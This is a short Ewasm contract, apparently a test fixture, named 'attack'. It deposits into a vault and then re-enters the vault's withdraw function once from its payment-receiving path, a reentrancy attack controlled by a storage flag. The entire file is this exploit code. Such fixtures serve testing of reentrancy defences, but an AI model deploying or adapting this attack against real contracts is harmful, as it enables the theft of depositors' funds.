;; Deposits, withdraws, and withdraws once more while it is paid.
;; attack(address) payable
(module
  (import "ethereum" "callDataCopy" (func $call_data_copy (param i32 i32 i32)))
  (import "ethereum" "getCallDataSize" (func $call_data_size (result i32)))
  (import "ethereum" "getCallValue" (func $value (param i32)))
  (import "ethereum" "getCaller" (func $caller (param i32)))
  (import "ethereum" "getGasLeft" (func $gas_left (result i64)))
  (import "ethereum" "storageLoad" (func $load (param i32 i32)))
  (import "ethereum" "storageStore" (func $store (param i32 i32)))
  (import "ethereum" "call"
    (func $call (param i64 i32 i32 i32 i32) (result i32)))
  (import "ethereum" "finish" (func $finish (param i32 i32)))
  (memory (export "memory") 1 1)
  (data (i32.const 300) "\d0\e3\0d\b0\3c\cf\d6\0b")
  ;; The vault's address at 16, the value at 100, nothing at 200, a flag at 240.

  (func $withdraw
    (drop (call $call (i64.sub (call $gas_left) (i64.const 10000)) (i32.const 16)
      (i32.const 200) (i32.const 304) (i32.const 4))))

  (func (export "main")
    (call $load (i32.const 200) (i32.const 240))
    (if (i32.eqz (call $call_data_size))
      (then
        (if (i64.eqz (i64.load (i32.const 240)))
          (then
            (i64.store (i32.const 240) (i64.const 1))
            (call $store (i32.const 200) (i32.const 240))
            (call $caller (i32.const 16))
            (call $withdraw)))
        (call $finish (i32.const 0) (i32.const 0))))
    (call $call_data_copy (i32.const 0) (i32.const 0) (i32.const 36))
    (call $value (i32.const 100))
    (drop (call $call (i64.sub (call $gas_left) (i64.const 10000)) (i32.const 16)
      (i32.const 100) (i32.const 300) (i32.const 4)))
    (call $withdraw)))
